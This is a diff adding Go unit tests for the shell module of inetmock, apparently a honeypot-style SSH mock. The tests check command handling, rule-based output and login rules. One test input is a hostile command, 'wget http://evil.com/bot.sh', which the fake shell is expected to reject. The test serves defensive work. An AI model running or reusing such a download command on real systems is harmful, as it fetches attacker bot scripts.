@@ -0,0 +1,229 @@
+package shell_test
+
+import (
+	"bytes"
+	"io"
+	"strings"
+	"testing"
+
+	"github.com/maxatome/go-testdeep/td"
+
+	"inetmock.icb4dc0.de/inetmock/protocols/shell"
+)
+
+func TestSession_Execute(t *testing.T) {
+	t.Parallel()
+	type want struct {
+		Output   string
+		ExitCode int
+		Exit     bool
+	}
+	tests := []struct {
+		name     string
+		rules    []string
+		username string
+		command  string
+		want     want
+	}{
+		{
+			name:     "Empty command",
+			username: "root",
+			command:  "  ",
+		},
+		{
+			name:     "Unknown command",
+			username: "root",
+			command:  "wget http://evil.com/bot.sh",
+			want: want{
+				Output:   "-bash: wget: command not found\n",
+				ExitCode: 127,
+			},
+		},
+		{
+			name:     "Builtin whoami",
+			username: "admin",
+			command:  "whoami",
+			want: want{
+				Output: "admin\n",
+			},
+		},
+		{
+			name:     "Builtin pwd of root",
+			username: "root",
+			command:  "pwd",
+			want: want{
+				Output: "/root\n",
+			},
+		},
+		{
+			name:     "Builtin exit",
+			username: "root",
+			command:  "exit",
+			want: want{
+				Exit: true,
+			},
+		},
+		{
+			name:     "Rule output",
+			rules:    []string{`Command("^uname") => Output("Linux server 5.10.0-21-amd64\n")`},
+			username: "root",
+			command:  "uname -a",
+			want: want{
+				Output: "Linux server 5.10.0-21-amd64\n",
+			},
+		},
+		{
+			name:     "Rule overrides builtin",
+			rules:    []string{`Command("^whoami$") -> Username("^root$") => Output("nobody\n")`},
+			username: "root",
+			command:  "whoami",
+			want: want{
+				Output: "nobody\n",
+			},
+		},
+		{
+			name:     "Rule with multiple outputs and exit",
+			rules:    []string{`Command("^reboot") => Output("Broadcast message\n") => Output("The system is going down\n") => Exit(1)`},
+			username: "root",
+			command:  "reboot now",
+			want: want{
+				Output:   "Broadcast message\nThe system is going down\n",
+				ExitCode: 1,
+				Exit:     true,
+			},
+		},
+		{
+			name:     "Login rules don't match commands",
+			rules:    []string{`Login() => Output("login\n")`},
+			username: "root",
+			command:  "true",
+		},
+	}
+	for _, tc := range tests {
+		tt := tc
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			ruleHandler, err := shell.Options{Rules: tt.rules}.NewRuleHandler("ssh_mock", t.Name())
+			if !td.CmpNoError(t, err) {
+				return
+			}
+
+			var commands []string
+			session := shell.Session{
+				Hostname: "server",
+				Username: tt.username,
+				Client:   "127.0.0.1",
+				Rules:    ruleHandler,
+				OnCommand: func(command string) {
+					commands = append(commands, command)
+				},
+			}
+
+			var got want
+			got.Output, got.ExitCode, got.Exit = session.Execute(tt.command)
+			td.Cmp(t, got, tt.want)
+
+			if strings.TrimSpace(tt.command) == "" {
+				td.CmpEmpty(t, commands)
+			} else {
+				td.Cmp(t, commands, []string{tt.command})
+			}
+		})
+	}
+}
+
+func TestRuleHandler_Login(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name    string
+		rules   []string
+		req     shell.Request
+		want    bool
+		wantErr bool
+	}{
+		{
+			name: "Reject without rules",
+			req:  shell.Request{Username: "root", Password: "root", Method: shell.MethodPassword},
+			want: false,
+		},
+		{
+			name:  "Accept matching password",
+			rules: []string{`Login() -> Username("^root$") -> Password("^(admin|root)$") => Accept()`},
+			req:   shell.Request{Username: "root", Password: "admin", Method: shell.MethodPassword},
+			want:  true,
+		},
+		{
+			name:  "Reject wrong password",
+			rules: []string{`Login() -> Username("^root$") -> Password("^(admin|root)$") => Accept()`},
+			req:   shell.Request{Username: "root", Password: "123456", Method: shell.MethodPassword},
+			want:  false,
+		},
+		{
+			name: "First matching rule wins",
+			rules: []string{
+				`Login() -> Username("^admin$") => Reject()`,
+				`Login() => Accept()`,
+			},
+			req:  shell.Request{Username: "admin", Password: "admin", Method: shell.MethodPassword},
+			want: false,
+		},
+		{
+			name:  "Accept public key by method",
+			rules: []string{`Login() -> Method("PublicKey") => Accept()`},
+			req:   shell.Request{Username: "git", Method: shell.MethodPublicKey, PublicKey: "SHA256:abc"},
+			want:  true,
+		},
+		{
+			name:  "Accept public key by fingerprint",
+			rules: []string{`Login() -> PublicKey("SHA256:abc") => Accept()`},
+			req:   shell.Request{Username: "git", Method: shell.MethodPublicKey, PublicKey: "SHA256:abc"},
+			want:  true,
+		},
+		{
+			name:    "Unknown filter",
+			rules:   []string{`Login() -> Shell("bash") => Accept()`},
+			wantErr: true,
+		},
+		{
+			name:    "Unknown action",
+			rules:   []string{`Login() => Allow()`},
+			wantErr: true,
+		},
+		{
+			name:    "Invalid regex",
+			rules:   []string{`Login() -> Username("(") => Accept()`},
+			wantErr: true,
+		},
+	}
+	for _, tc := range tests {
+		tt := tc
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			ruleHandler, err := shell.Options{Rules: tt.rules}.NewRuleHandler("ssh_mock", t.Name())
+			if tt.wantErr {
+				td.CmpError(t, err)
+				return
+			} else if !td.CmpNoError(t, err) {
+				return
+			}
+
+			td.Cmp(t, ruleHandler.Login(tt.req, "127.0.0.1"), tt.want)
+		})
+	}
+}
+
+func TestSession_Run(t *testing.T) {
+	t.Parallel()
+	var out bytes.Buffer
+	term := shell.NewLineTerminal(struct {
+		io.Reader
+		io.Writer
+	}{
+		Reader: strings.NewReader("whoami\r\nfoo\nexit\nwhoami\n"),
+		Writer: &out,
+	})
+
+	session := shell.Session{Hostname: "server", Username: "pi", Rules: new(shell.RuleHandler)}
+	td.CmpNoError(t, session.Run(term))
+	td.Cmp(t, out.String(), "pi@server:~$ pi\npi@server:~$ -bash: foo: command not found\npi@server:~$ ")
+}